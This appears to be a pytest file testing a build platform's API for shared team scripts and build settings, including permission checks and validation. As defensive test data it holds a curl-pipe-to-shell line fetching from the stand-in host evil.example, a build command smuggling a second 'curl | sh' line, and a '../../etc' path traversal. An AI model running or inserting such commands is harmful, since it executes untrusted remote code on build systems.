"""Shared team scripts and build settings over the REST API: same checks and permissions as the pages."""
import pytest

from builds.models import Build, Recipe, TeamScript, TeamScriptVersion
from builds.services import build_request
from portal.models import AuditEvent
from tests.builds.team_scripts.test_packages import save, targz
from tests.builds.test_api import api_for

pytestmark = pytest.mark.django_db
CLEAN = "#!/bin/sh\nset -eu\nmkdir -p dist\necho built > dist/out.txt\n"
HOSTILE = "#!/bin/sh\ncurl -fsSL https://evil.example/install.sh | sh\n"


def post_script(user, text=CLEAN, name="maven-prep", kind="build-env", team="payments"):
    return api_for(user).post("/api/team-scripts/", {"team": team, "name": name, "kind": kind, "text": text}, format="json")


def test_it_saves_versions_and_the_same_text_adds_none(member):
    first = post_script(member)
    assert first.status_code == 201, first.content
    assert first.json()["number"] == 1 and len(first.json()["sha256"]) == 64
    assert post_script(member).json()["number"] == 1
    assert post_script(member, CLEAN + "echo again\n").json()["number"] == 2
    listed = api_for(member).get("/api/team-scripts/").json()["results"]
    assert [(s["name"], [v["number"] for v in s["versions"]]) for s in listed] == [("maven-prep", [2, 1])]
    assert AuditEvent.objects.filter(action="team_script.saved").count() == 2


def test_check_errors_refuse_the_save_with_the_findings(member):
    response = post_script(member, HOSTILE)
    assert response.status_code == 400
    body = response.json()
    assert "was not saved" in body["detail"] and "evil.example" in body["detail"]
    assert any(f["rule"] == "pipe-to-shell" for f in body["findings"])
    assert not TeamScript.objects.exists() and not TeamScriptVersion.objects.exists()


def test_only_team_members_write_and_reviewers_only_read(member, outsider, reviewer):
    assert post_script(member).status_code == 201
    script = TeamScript.objects.get()
    assert post_script(outsider).status_code == 404, "another team's team is not even visible"
    assert api_for(outsider).get("/api/team-scripts/").json()["results"] == []
    assert api_for(outsider).get(f"/api/team-scripts/{script.pk}/").status_code == 404
    assert post_script(reviewer).status_code == 403
    assert api_for(reviewer).get(f"/api/team-scripts/{script.pk}/").status_code == 200
    assert TeamScriptVersion.objects.count() == 1


def test_build_settings_refuse_hostile_values_and_store_good_ones(member, recipe, busybox):  # noqa: F811
    api = api_for(member)
    url = f"/api/recipes/{recipe.pk}/build-settings/"
    bad = api.put(url, {"build_command": "make\nRUN curl evil | sh"}, format="json")
    assert bad.status_code == 400 and "line breaks" in bad.json()["errors"]["build_command"]
    assert api.put(url, {"build_output": "../../etc"}, format="json").json()["errors"].keys() == {"build_output"}
    assert api.put(url, {"build_command": ["make"], "build_base": "nope"}, format="json").status_code == 400
    good = api.put(url, {"build_command": ["mvn", "-q", "package", "$(id)"], "build_output": "target/app.jar",
                         "build_base": "busybox"}, format="json")
    assert good.status_code == 200, good.content
    recipe.refresh_from_db()
    assert recipe.build_command == ["mvn", "-q", "package", "$(id)"] and recipe.build_output == "target/app.jar"
    assert api.get(f"/api/recipes/{recipe.pk}/").json()["build_base"] == "busybox"
    assert AuditEvent.objects.filter(action="recipe.build_settings_saved").count() == 1


def test_build_settings_permissions_match_the_pages(recipe, outsider, reviewer):  # noqa: F811
    url = f"/api/recipes/{recipe.pk}/build-settings/"
    assert api_for(outsider).put(url, {"build_command": "make"}, format="json").status_code == 404
    assert api_for(reviewer).put(url, {"build_command": "make"}, format="json").status_code == 403
    recipe.refresh_from_db()
    assert recipe.build_command == []


def test_promote_then_share_a_script_and_the_hash_follows_its_versions(member, team, busybox, runtime_user):  # noqa: F811
    package = targz(("app-1.0/.paas/build-env.sh", CLEAN.encode()), ("app-1.0/src/a.c", b"int main(){}\n"))
    first = save(member, team, busybox, runtime_user, package)
    response = api_for(member).post(f"/api/recipes/{first.pk}/promote-script/", {"kind": "build-env", "name": "c-prep"}, format="json")
    assert response.status_code == 201, response.content
    script = TeamScript.objects.get(name="c-prep")
    first.refresh_from_db()
    assert first.shared_build_script == script and script.latest.note == "promoted from recipe svc"

    # a second recipe whose package carries a broken copy uses the shared one instead: no block
    broken = targz(("app-1.0/.paas/build-env.sh", HOSTILE.encode()), ("app-1.0/src/a.c", b"int main(){}\n"))
    from django.core.files.uploadedfile import SimpleUploadedFile

    from builds.recipes.services import recipe_save
    second = recipe_save(user=member, team=team, name="svc2", base=busybox, choices=[(runtime_user, {"uid": "10001"})],
                         artifact=SimpleUploadedFile("app.tar.gz", broken))
    assert api_for(member).put(f"/api/recipes/{second.pk}/build-settings/", {"shared_build_script": script.pk},
                               format="json").status_code == 200
    second.refresh_from_db()
    before = build_request(user=member, recipe=second)
    assert "team script c-prep v1" in before.build_stage and "echo built" in before.context_files["paas/build-env.sh"]
    assert "evil.example" not in before.context_files["paas/build-env.sh"]

    post_script(member, CLEAN + "echo v2\n", name="c-prep")
    after = build_request(user=member, recipe=second, no_cache=True)
    assert "team script c-prep v2" in after.build_stage and after.composition_sha256 != before.composition_sha256
    assert Build.objects.filter(recipe=second).count() == 2
    assert AuditEvent.objects.filter(action="team_script.promoted").count() == 1


def test_promote_refuses_a_package_without_that_script_and_outsiders(member, outsider, recipe):  # noqa: F811
    url = f"/api/recipes/{recipe.pk}/promote-script/"
    missing = api_for(member).post(url, {"kind": "image-env", "name": "x"}, format="json")
    assert missing.status_code == 400 and "has no .paas/image-env.sh" in missing.json()["detail"]
    assert api_for(outsider).post(url, {"kind": "image-env", "name": "x"}, format="json").status_code == 404
    assert not TeamScript.objects.exists()


def test_a_script_of_another_team_cannot_be_used(member, outsider, recipe, other_team):  # noqa: F811
    assert post_script(outsider, team="search").status_code == 201
    theirs = TeamScript.objects.get(team=other_team)
    response = api_for(member).put(f"/api/recipes/{recipe.pk}/build-settings/", {"shared_build_script": theirs.pk}, format="json")
    assert response.status_code == 400 and "shared_build_script" in response.json()["errors"]


def test_the_schema_names_the_new_endpoints_and_the_api_root_still_lists_recipes(client, member):
    root = api_for(member).get("/api/").json()
    assert root["recipes"].endswith("/api/recipes/") and root["team-scripts"].endswith("/api/team-scripts/")
    paths = client.get("/api/schema/?format=json").json()["paths"]
    for path in ["/api/team-scripts/", "/api/team-scripts/{id}/", "/api/recipes/{id}/build-settings/",
                 "/api/recipes/{id}/promote-script/"]:
        assert path in paths, path


def test_a_shared_image_script_replaces_the_packages_copy_and_is_recorded(member, team, busybox, runtime_user):  # noqa: F811
    recipe = save(member, team, busybox, runtime_user, targz((".paas/image-env.sh", b"#!/bin/sh\necho from-the-package\n"),
                                                             ("app.jar", b"jar")))
    response = post_script(member, "#!/bin/sh\necho from-the-team\n", name="labels", kind="image-env")
    assert response.status_code == 201
    script = TeamScript.objects.get(name="labels")
    assert api_for(member).put(f"/api/recipes/{recipe.pk}/build-settings/", {"shared_image_script": script.pk},
                               format="json").status_code == 200
    build = build_request(user=member, recipe=Recipe.objects.get(pk=recipe.pk))
    assert build.context_files["paas/image-env.sh"] == "#!/bin/sh\necho from-the-team\n"
    assert "from the team script labels v1, sha256:" + response.json()["sha256"] in build.script_stage
    assert not build.build_stage, "an image-env script alone needs no build stage"


def test_a_build_stage_base_must_be_the_recipes_or_flagged_for_builds(member, recipe, busybox):  # noqa: F811
    from catalog.models import BaseImage

    sdk = BaseImage.objects.create(slug="sdk", name="SDK", repository="base/sdk", tag="1", digest="sha256:" + "3" * 64,
                                   os_family="busybox", approved=True)
    url = f"/api/recipes/{recipe.pk}/build-settings/"
    refused = api_for(member).put(url, {"build_command": "make", "build_base": "sdk"}, format="json")
    assert refused.status_code == 400 and "not offered as a build-stage base" in refused.json()["detail"]
    sdk.build_base = True
    sdk.save()
    assert api_for(member).put(url, {"build_command": "make", "build_base": "sdk"}, format="json").status_code == 200
    sdk.approved = False
    sdk.save()
    assert api_for(member).put(url, {"build_command": "make", "build_base": "sdk"}, format="json").status_code == 400
